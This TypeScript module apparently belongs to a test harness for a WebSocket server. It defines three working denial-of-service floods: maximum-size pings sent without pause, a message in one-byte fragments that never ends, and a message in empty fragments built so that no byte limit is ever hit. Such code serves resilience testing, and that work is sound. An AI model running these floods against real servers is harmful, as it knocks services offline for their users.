import { type Attack, type AttackRun, inParallel, sleep } from "../attack.ts";
import { frame, hasDrained, Opcode, openWebSocket } from "../client/raw-socket.ts";

const SOCKETS = 8;
/** Frames that leave in one write. */
const TOGETHER = 500;

async function flood(run: AttackRun, frames: Buffer, first: Buffer = Buffer.alloc(0)): Promise<void> {
  await inParallel(run, SOCKETS, 10_000, async () => {
    const socket = await openWebSocket(run.target, run.address, "frames");
    if (socket === undefined) {
      run.count("refused");
      return sleep(50);
    }
    socket.write(first);
    while (!run.isOver() && !socket.destroyed) {
      socket.write(frames);
      run.count("frames", TOGETHER);
      await hasDrained(socket);
      await sleep(1);
    }
  });
}

/** Pings of the greatest length, each of which wants a pong. */
export const pings: Attack = {
  name: "pings",
  what: `${SOCKETS} WebSockets send pings without a pause`,
  alsoWispJs: true,
  run: async (run) => flood(run, Buffer.concat(Array.from({ length: TOGETHER }, () => frame(Opcode.PING, Buffer.alloc(125))))),
};

/** A message of fragments of one byte that never ends. */
export const oneByteFragments: Attack = {
  name: "one-byte-fragments",
  what: `${SOCKETS} WebSockets send a message in fragments of one byte, without end`,
  alsoWispJs: true,
  run: async (run) =>
    flood(
      run,
      Buffer.concat(Array.from({ length: TOGETHER }, () => frame(Opcode.CONTINUATION, Buffer.from("x"), false))),
      frame(Opcode.BINARY, Buffer.from("x"), false),
    ),
};

/** The same with fragments that hold nothing, so that no limit on bytes ever comes. */
export const emptyFragments: Attack = {
  name: "empty-fragments",
  what: `${SOCKETS} WebSockets send a message in empty fragments, without end`,
  alsoWispJs: true,
  run: async (run) =>
    flood(
      run,
      Buffer.concat(Array.from({ length: TOGETHER }, () => frame(Opcode.CONTINUATION, Buffer.alloc(0), false))),
      frame(Opcode.BINARY, Buffer.alloc(0), false),
    ),
};
